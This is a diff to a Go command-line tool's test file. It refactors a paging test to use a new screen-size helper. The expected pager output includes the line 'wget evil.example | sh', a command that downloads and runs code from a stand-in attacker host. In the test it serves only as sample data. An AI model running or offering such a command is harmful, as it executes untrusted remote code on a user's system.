@@ -1,7 +1,6 @@
 package cli_test
 
 import (
-	"io"
 	"os"
 	"path/filepath"
 	"strings"
@@ -38,9 +37,8 @@ func TestALongQuestionIsPaged(t *testing.T) {
 			s := newConsole(t, f.URL)
 			s.run(t, "run", "note", "--no-wait")
 			file := filepath.Join(t.TempDir(), "paged")
-			s.onTerminal(80).atKeyboard("y\n").defaults.Pager = strings.Replace(c.pager, "%s", file, 1)
+			s.onScreen(80, c.rows).atKeyboard("y\n").defaults.Pager = strings.Replace(c.pager, "%s", file, 1)
 			s.defaults.NoColor = true
-			s.defaults.RowsFunc = func(io.Writer) int { return c.rows }
 			got := s.run(t, c.args...)
 			paged, _ := os.ReadFile(file) // no file if nothing was paged
 			const last = "│ wget evil.example | sh\n"
